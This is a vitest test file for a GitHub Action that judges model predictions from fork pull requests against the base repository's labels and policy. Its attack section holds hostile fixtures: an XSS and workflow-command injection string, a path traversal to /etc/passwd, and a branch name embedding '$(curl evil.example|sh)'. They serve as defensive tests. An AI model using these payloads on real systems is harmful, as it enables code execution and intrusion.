import { forkReportRecord } from '@mlops-actions/records';
import { describe, expect, it, test } from 'vitest';
import { definition } from './definition.ts';
import {
  answers,
  digestOf,
  labels,
  policy,
  pull,
  shas,
  trainArtifact,
  trainRecord,
} from './fork-samples.test-support.ts';
import { portsOf, report, type WorldOptions } from './fork-world.test-support.ts';
import { recover } from './run.ts';

const n = 600;
const good = answers(n, (index) => index % 50 === 7);
const bad = answers(n, (index) => index % 6 === 1);
const trained = (predictions: string, change = {}) => [
  { name: 'mlops-model-train', files: trainArtifact(predictions, change) },
];
const onBase = (text: string) => `${text}@${shas.base}`;
const trusted = {
  baseline: good,
  files: { [onBase('mlops/gate.yml')]: `${policy}labels: data/labels.csv\n`, [onBase('data/labels.csv')]: labels(n) },
};

describe('a pull request of a fork', () => {
  it('passes by labels of the base, and is told what that proves', async () => {
    const { result, record, statuses } = await report({ ...trusted, artifacts: trained(good) });
    expect(result.failure).toBeUndefined();
    expect(result.comment?.pull).toEqual({ number: 12, headSha: shas.head });
    expect(result.comment?.render?.({ run: 'https://github.example/summary', report: undefined })).toMatch(
      /whose owner can write into them what they like[\s\S]*github.example\/summary[\s\S]*runs\/4100/,
    );
    expect(result.outputs).toEqual({ verdict: 'pass', 'pull-request': 12 });
    expect(record).toMatchObject({
      verdict: 'pass',
      labels: 'base',
      pullRequest: 12,
      headSha: shas.head,
      sourceRun: 4100,
    });
    expect(record.gate).toMatchObject({
      candidate: { commit: shas.head, digest: digestOf(good) },
      baseline: { commit: shas.base, behind: 0 },
      pullRequest: 12,
    });
    expect(record.gate?.flags).toContain('untrusted-predictions');
    expect(result.section).toMatch(/^### ✅/);
    expect(result.section).toContain('whose owner can write into them what they like');
    expect(result.section).toContain('/octo-org/spam-filter/actions/runs/4100)');
    expect(statuses).toMatchObject([{ sha: shas.head, context: 'mlops/fork', state: 'success' }]);
  });

  it('fails by labels of the base', async () => {
    const { result, statuses } = await report({ ...trusted, artifacts: trained(bad) });
    expect(result.failure).toMatchObject({ exit: 1, message: expect.stringContaining('accuracy') as string });
    expect(result.section).toMatch(/^### ❌/);
    expect(statuses).toMatchObject([{ state: 'failure' }]);
  });

  it('never passes by its own labels: the verdict stays open, the status pending', async () => {
    const { result, record, statuses } = await report({ baseline: good, artifacts: trained(good) });
    expect(result.failure).toBeUndefined();
    expect(record).toMatchObject({ verdict: 'inconclusive', labels: 'fork', gate: { verdict: 'inconclusive' } });
    expect(record.gate?.flags).toContain('untrusted-labels');
    expect(result.section).toMatch(
      /^### ⚪ `model` · inconclusive: nothing speaks against it, by labels of the fork\n\nEvery metric holds/,
    );
    expect(result.section).toContain('nothing of it is a pass');
    expect(record.reason).toContain('proves nothing');
    expect(statuses).toMatchObject([{ state: 'pending' }]);
  });

  it('fails by its own labels all the same', async () => {
    const { result, record } = await report({ baseline: good, artifacts: trained(bad) });
    expect(result.failure?.exit).toBe(1);
    expect(record.verdict).toBe('fail');
  });

  it('takes the labels the workflow names before those of the policy', async () => {
    const files = { [onBase('mlops/gate.yml')]: policy, [onBase('truth/own.csv')]: labels(n) };
    const { record } = await report({
      baseline: good,
      files,
      inputs: { labels: 'truth/own.csv' },
      artifacts: trained(good),
    });
    expect(record).toMatchObject({ verdict: 'pass', labels: 'base' });
  });

  it('gets its labels replaced by those of the base', async () => {
    const forged = answers(n, (index) => index % 6 === 1).replaceAll(
      /"label":"\w+","prediction":"(\w+)"/g,
      '"label":"$1","prediction":"$1"',
    );
    const { record } = await report({ ...trusted, artifacts: trained(forged) });
    expect(record.verdict).toBe('fail');
  });

  it('is compared with nothing when nothing is recorded, and stays open', async () => {
    const { record, statuses } = await report({ ...trusted, baseline: undefined, artifacts: trained(good) });
    expect(record).toMatchObject({
      verdict: 'inconclusive',
      gate: { flags: expect.arrayContaining(['no-baseline']) as string[] },
    });
    expect(statuses).toMatchObject([
      { state: 'success', description: expect.stringContaining('inconclusive') as string },
    ]);
  });

  it('can be told by a file of predictions in an artifact of another name', async () => {
    const artifacts = [{ name: 'scores', files: { 'mine.jsonl': good, 'README.md': 'x' } }];
    const { record } = await report({ ...trusted, inputs: { candidate: 'artifact:scores' }, artifacts });
    expect(record.verdict).toBe('pass');
  });

  it('is judged by the newest attempt', async () => {
    const artifacts = [...trained(good), { name: 'mlops-model-train-2', files: trainArtifact(bad) }];
    expect((await report({ ...trusted, artifacts })).record.verdict).toBe('fail');
  });
});

describe('the rules', () => {
  const easy =
    'task: binary\npositive: spam\nmetrics: { accuracy: { margin: 0.5, min: 0.01 } }\nblock-on: beyond-margin\n';

  it('are those of the base, and it is said how the pull request would change them', async () => {
    const files = { ...trusted.files, [`mlops/gate.yml@${shas.head}`]: easy };
    const { record, result } = await report({ ...trusted, files, artifacts: trained(bad) });
    expect(record).toMatchObject({ verdict: 'fail', gate: { policy: { source: `mlops/gate.yml@${shas.base}` } } });
    expect(record.gate?.policy.differs.join()).toContain('accuracy');
    expect(result.section).toContain('differs:');
  });

  it('are said to be the same where the pull request leaves the file alone', async () => {
    const { record } = await report({ ...trusted, artifacts: trained(good) });
    expect(record.gate?.policy.differs).toEqual([]);
  });

  it('are said to be taken away where the pull request takes them away', async () => {
    const files = { ...trusted.files, [`mlops/gate.yml@${shas.head}`]: undefined };
    const { record } = await report({ ...trusted, files, artifacts: trained(good) });
    expect(record.gate?.policy.differs).toEqual(['the pull request takes the policy away']);
  });

  it('may block an open verdict, in the status too', async () => {
    const strict = `${trusted.files[onBase('mlops/gate.yml')] ?? ''}when: { inconclusive: fail }\n`;
    const files = { ...trusted.files, [onBase('mlops/gate.yml')]: strict };
    const { record, result, statuses } = await report({
      ...trusted,
      baseline: undefined,
      files,
      artifacts: trained(good),
    });
    expect([record.verdict, result.failure?.exit, statuses[0]?.state]).toEqual(['inconclusive', 1, 'failure']);
  });

  test.each([
    ['no YAML', '{ ['],
    ['too long', `# ${'x'.repeat(300_000)}`],
  ])('of a pull request that are %s judge nothing and break nothing', async (_, text) => {
    const files = { ...trusted.files, [`mlops/gate.yml@${shas.head}`]: text };
    const { record } = await report({ ...trusted, files, artifacts: trained(good) });
    expect(record.verdict).toBe('pass');
    expect(record.gate?.policy.differs).toHaveLength(1);
  });

  it('that only the pull request brings are none', async () => {
    const files = { [`mlops/gate.yml@${shas.head}`]: easy };
    const { record, result, statuses } = await report({ files, artifacts: trained(good) });
    expect(record).toMatchObject({ verdict: 'error', error: { code: 'E_POLICY_MISSING' }, gate: null });
    expect(result.failure?.exit).toBe(2);
    expect(statuses).toMatchObject([{ state: 'error' }]);
  });
});

describe('nothing to report', () => {
  const closed = [pull({ open: false })];
  const moved = [pull({ head: { ...pull().head, sha: shas.newer } })];
  const cases: readonly [string, WorldOptions][] = [
    ['the run of a push', { workflowRun: { event: 'push' } }],
    ['a pull request of this repository', { workflowRun: { head_repository: { full_name: 'octo-org/spam-filter' } } }],
    ['a fork that was deleted', { workflowRun: { head_repository: null } }],
    ['a branch that was deleted', { workflowRun: { head_branch: null } }],
    ['a run that waits for approval', { workflowRun: { conclusion: 'action_required' } }],
    ['a pull request that was closed', { pulls: closed }],
    ['a newer push', { pulls: moved }],
    [
      'the branch of that name in another fork',
      { pulls: [pull({ head: { ...pull().head, repository: 'stranger/other' } })] },
    ],
    ['a pull request whose fork was deleted', { pulls: [pull({ head: { ...pull().head, repository: undefined } })] }],
    ['a pull request that is closed meanwhile', { later: closed }],
    ['a push meanwhile', { later: moved }],
    ['another base meanwhile', { later: [pull({ base: { sha: shas.base, ref: 'release' } })] }],
  ];

  test.each(cases)('%s: skipped, and written to nobody', async (_, options) => {
    const { result, record, statuses } = await report({ ...trusted, artifacts: trained(good), ...options });
    expect(result.outputs).toEqual({ verdict: 'skipped' });
    expect(record).toMatchObject({ verdict: null, pullRequest: null, gate: null });
    expect(record.reason).not.toBe('');
    expect({ comment: result.comment, failure: result.failure, statuses }).toEqual({
      comment: undefined,
      failure: undefined,
      statuses: [],
    });
  });

  it('without a pull request, not even the artifact is looked at', async () => {
    const { asked } = await report({ pulls: [] });
    expect(asked).toEqual(['pullRequestsFrom']);
  });
});

describe('a misuse', () => {
  test.each(['pull_request_target', 'pull_request', 'push', 'issue_comment'])('on %s is refused', async (eventName) => {
    await expect(report({ event: { eventName } })).rejects.toMatchObject({ code: 'E_EVENT' });
  });

  test.each([
    ['no payload', { payload: {} }],
    ['a commit that is none', { payload: { action: 'completed', workflow_run: { head_sha: 'HEAD' } } }],
  ])('with %s is refused', async (_, event) => {
    await expect(report({ event })).rejects.toMatchObject({ code: 'E_EVENT' });
  });
});

test('what could not even look is an error on record, with the run where one is named', () => {
  const ports = portsOf({}, { temp: '', log: [], github: undefined });
  const record = recover({ code: 'E_GITHUB', message: 'down' }, definition.inputs.parse({}), ports);
  expect(forkReportRecord.parse(record)).toMatchObject({
    verdict: 'error',
    sourceRun: 4100,
    error: { code: 'E_GITHUB' },
  });
});

describe('several pull requests with one head', () => {
  const pulls = [pull({ number: 15, base: { sha: shas.base, ref: 'release/1' } }), pull()];

  it('are an error, told to the first and set on each base', async () => {
    const { result, record, statuses } = await report({ ...trusted, pulls, artifacts: trained(good) });
    expect(record).toMatchObject({ verdict: 'error', pullRequest: 12, error: { code: 'E_PULL_REQUEST' } });
    expect(result.failure?.message).toContain('#12, #15');
    expect(statuses.map(({ context, state }) => [context, state])).toEqual([
      ['mlops/fork', 'error'],
      ['mlops/fork (release/1)', 'error'],
    ]);
  });

  it('a base with easier rules cannot turn green what goes to the default branch', async () => {
    const [release] = pulls;
    const { statuses } = await report({ ...trusted, pulls: release ? [release] : [], artifacts: trained(good) });
    expect(statuses).toMatchObject([{ context: 'mlops/fork (release/1)', state: 'success' }]);
  });
});

describe('an attack', () => {
  const hostile = '@octocat <img src=x onerror=alert(1)> ![x](https://evil.example/x.png) `x` | \n::error::boom';
  const hostileSlices = `${policy}labels: data/labels.csv\nslices: { explore: [${JSON.stringify(hostile)}] }\n`;
  const edit = (text: string, change: (row: Record<string, unknown>, index: number) => object) =>
    text
      .trimEnd()
      .split('\n')
      .map(
        (line, index) =>
          `${JSON.stringify({ ...(JSON.parse(line) as object), ...change(JSON.parse(line) as Record<string, unknown>, index) })}\n`,
      )
      .join('');
  const withRecord = (text: string) => [
    { name: 'mlops-model-train', files: { ...trainArtifact(good), 'train.json': text } },
  ];
  const runOf = (change: object) => ({ run: { ...trainRecord(good).run, ...change } });
  const cases: readonly [string, string, WorldOptions][] = [
    ['no artifact at all', 'E_CANDIDATE_MISSING', {}],
    ['a run that failed before', 'E_CANDIDATE_MISSING', { workflowRun: { conclusion: 'failure' } }],
    ['a record of another run', 'E_RECORD', { artifacts: trained(good, runOf({ id: 4101 })) }],
    ['a record of another repository', 'E_RECORD', { artifacts: trained(good, runOf({ repository: 'a/b' })) }],
    ['a record of another model', 'E_RECORD', { artifacts: trained(good, { model: 'other' }) }],
    ['a record of a commit nobody knows', 'E_RECORD', { artifacts: trained(good, { commit: '0'.repeat(40) }) }],
    ['a record of the merge of something else', 'E_RECORD', { artifacts: trained(good, { commit: shas.stranger }) }],
    ['a record of the base', 'E_RECORD', { artifacts: trained(good, { commit: shas.base }) }],
    ['a record of a newer version', 'E_RECORD', { artifacts: trained(good, { schemaVersion: 2 }) }],
    ['a record of another kind', 'E_RECORD', { artifacts: withRecord('{"kind":"eval-gate","verdict":"pass"}') }],
    ['a record that is no JSON', 'E_RECORD', { artifacts: withRecord(hostile) }],
    ['a record of 10 MB', 'E_ARTIFACT', { artifacts: withRecord(' '.repeat(10_000_000)) }],
    ['no record', 'E_ARTIFACT', { artifacts: [{ name: 'mlops-model-train', files: { 'predictions.jsonl': good } }] }],
    ['numbers alone', 'E_CANDIDATE_MISSING', { artifacts: trained(good, { predictions: null }) }],
    [
      'predictions that were changed since',
      'E_ARTIFACT',
      { artifacts: [{ name: 'mlops-model-train', files: { ...trainArtifact(bad), 'predictions.jsonl': good } }] },
    ],
    [
      'a path out of the artifact',
      'E_ARTIFACT',
      { artifacts: trained(good, { predictions: { path: '../../../../etc/passwd', digest: digestOf(''), size: 0 } }) },
    ],
    [
      'a model to unpickle in the place of predictions',
      'E_PREDICTIONS',
      {
        artifacts: [
          {
            name: 'mlops-model-train',
            files: {
              ...trainArtifact('x', { predictions: { path: 'model.pkl', digest: digestOf('x'), size: 1 } }),
              'model.pkl': 'x',
            },
          },
        ],
      },
    ],
    [
      'an artifact of 10 GB',
      'E_ARTIFACT',
      { artifacts: [{ name: 'mlops-model-train', files: trainArtifact(good), size: 1e10 }] },
    ],
    [
      'two files of predictions',
      'E_ARTIFACT',
      {
        inputs: { candidate: 'artifact:p' },
        artifacts: [{ name: 'p', files: { 'a.jsonl': bad, 'b.jsonl': good } }],
      },
    ],
    ['scores that are NaN', 'E_PREDICTIONS_VALUE', { artifacts: trained(edit(good, () => ({ score: 'NaN' }))) }],
    ['an id twice', 'E_PREDICTIONS_ID', { artifacts: trained(good + (good.split('\n')[0] ?? '') + '\n') }],
    ['examples of the baseline left out', 'E_EXAMPLES_CHANGED', { artifacts: trained(answers(n - 100)) }],
    ['nothing but a new line', 'E_PREDICTIONS_EMPTY', { artifacts: trained('\n') }],
    ['labels the base does not have', 'E_PREDICTIONS_LABEL', { artifacts: trained(answers(n + 1)) }],
    [
      'other labels than the baseline’s',
      'E_EXAMPLES_CHANGED',
      {
        files: { [onBase('mlops/gate.yml')]: policy },
        artifacts: trained(edit(bad, ({ prediction }) => ({ label: prediction }))),
      },
    ],
    [
      'ids made to harm',
      'E_EXAMPLES_CHANGED',
      {
        files: { [onBase('mlops/gate.yml')]: policy },
        artifacts: trained(edit(good, ({ id }) => ({ id: `${hostile} ${String(id)}` }))),
      },
    ],
    [
      'answers made to harm',
      'E_PREDICTIONS_LABEL',
      { artifacts: trained(edit(good, () => ({ prediction: hostile }))) },
    ],
  ];

  test.each(cases)('%s ends red: %s', async (_, code, options) => {
    const { result, record, statuses, log } = await report({ ...trusted, ...options });
    expect({ verdict: record.verdict, code: record.error?.code }).toEqual({ verdict: 'error', code });
    expect(result.failure?.exit).toBe(2);
    expect(statuses).toMatchObject([{ state: 'error' }]);
    expect(result.comment?.pull?.number).toBe(12);
    expectInert(`${result.section}\n`);
    expect(result.failure?.message.split('\n')).toHaveLength(1);
    expect(log).not.toMatch(/^::/m);
  });

  it('a million ids are more than is read', async () => {
    const many = Array.from({ length: 1_000_000 }, (_, index) => `${index},ham,ham\n`).join('');
    const artifacts = [{ name: 'p', files: { 'p.csv': `id,label,prediction\n${many}` } }];
    const { record } = await report({ ...trusted, inputs: { candidate: 'artifact:p' }, artifacts });
    expect(record).toMatchObject({ verdict: 'error', error: { code: 'E_PREDICTIONS' } });
  });

  it('naming the baseline’s digest does not make the candidate identical', async () => {
    const own = digestOf('the model of main');
    const weights = { path: 'model.bin', digest: own, size: 3, format: 'raw', artifact: null };
    const { record } = await report({ ...trusted, artifacts: trained(bad, { weights }) });
    expect(record.verdict).toBe('fail');
    expect(record.gate?.candidate?.digest).toBe(digestOf(bad));
    expect(record.gate?.flags).not.toContain('identical');
  });

  it('a pull request named in the artifact is not asked', async () => {
    const files = { ...trainArtifact(good), 'pr.json': '{"number": 1}', 'eval-gate.json': '{"pullRequest": 1}' };
    const { record, asked } = await report({ ...trusted, artifacts: [{ name: 'mlops-model-train', files }] });
    expect(record.pullRequest).toBe(12);
    expect(asked.filter((name) => name === 'pullRequest')).toHaveLength(1);
  });

  it('names and values made to harm stay inert in what is shown', async () => {
    const files = { ...trusted.files, [onBase('mlops/gate.yml')]: hostileSlices };
    const rows = edit(good, (_, index) => ({ [hostile]: `${hostile} ${index % 2}` }));
    const { result, record, log } = await report({ ...trusted, files, artifacts: trained(rows) });
    expect(record.verdict).toBe('pass');
    expect(result.section).toContain('octocat');
    expectInert(result.section);
    expect(log).not.toMatch(/^::/m);
  });

  it('a branch with a name for a shell is asked for as it is', async () => {
    const ref = '$(curl evil.example|sh);`id`&&"';
    const pulls = [pull({ head: { ...pull().head, ref } })];
    const { record } = await report({ ...trusted, pulls, artifacts: trained(good), workflowRun: { head_branch: ref } });
    expect(record.verdict).toBe('pass');
  });
});

/** Markdown outside code spans holds no mention, image, tag or command of the stranger's. */
function expectInert(markdown: string): void {
  const prose = markdown.replace(/(`+)(?:(?!\1)[\s\S])*\1(?!`)/g, '');
  for (const trace of ['@octocat', '<img', '](https://evil', '\n::']) expect(prose).not.toContain(trace);
}
